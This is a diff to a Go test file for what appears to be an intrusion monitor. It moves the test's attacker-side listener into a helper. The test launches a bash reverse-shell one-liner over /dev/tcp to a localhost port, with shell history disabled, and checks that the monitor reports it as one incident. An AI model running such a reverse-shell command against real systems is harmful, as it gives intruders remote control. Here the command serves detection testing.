@@ -11,6 +11,30 @@ import (
 	"testing"
 )
 
+// attacker listens on 127.0.0.1 for one reverse shell, types commands into
+// it and reads what comes back until it hangs up; served says how that went.
+func attacker(t *testing.T, commands string) (int, <-chan error) {
+	t.Helper()
+	l, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	served := make(chan error, 1)
+	go func() {
+		c, err := l.Accept()
+		if err != nil {
+			served <- err
+			return
+		}
+		defer c.Close()
+		_, err = io.WriteString(c, commands)
+		io.Copy(io.Discard, c)
+		served <- err
+	}()
+	return l.Addr().(*net.TCPAddr).Port, served
+}
+
 // printedAlerts are the records of rule that are alerts, not fold summaries.
 func printedAlerts(m *monitor, rule string, pred func(rec) bool) []rec {
 	return m.find(func(r rec) bool { return hasRule(r, rule) && r.get("repeats") == nil && pred(r) })
@@ -22,26 +46,10 @@ func printedAlerts(m *monitor, rule string, pred func(rec) bool) []rec {
 // critical line (27 for one root login with its .bashrc).  Now the first
 // line stands for the incident and the summary lists the processes.
 func TestAReverseShellIsOneIncident(t *testing.T) {
-	l, err := net.Listen("tcp4", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer l.Close()
-	served := make(chan error, 1)
-	go func() {
-		c, err := l.Accept()
-		if err != nil {
-			served <- err
-			return
-		}
-		defer c.Close()
-		// what the attacker types: three programs, then leave
-		_, err = io.WriteString(c, "sh -c true\nsh -c true\nbash -c true\nexit\n")
-		io.Copy(io.Discard, c)
-		served <- err
-	}()
+	// what the attacker types: three programs, then leave
+	port, served := attacker(t, "sh -c true\nsh -c true\nbash -c true\nexit\n")
 	m := startMonitor(t)
-	sh := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", l.Addr().(*net.TCPAddr).Port))
+	sh := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
 	sh.Env = append(os.Environ(), "HISTFILE=/dev/null")
 	if out, err := sh.CombinedOutput(); err != nil {
 		t.Fatalf("%v: %v: %s", sh, err, out)
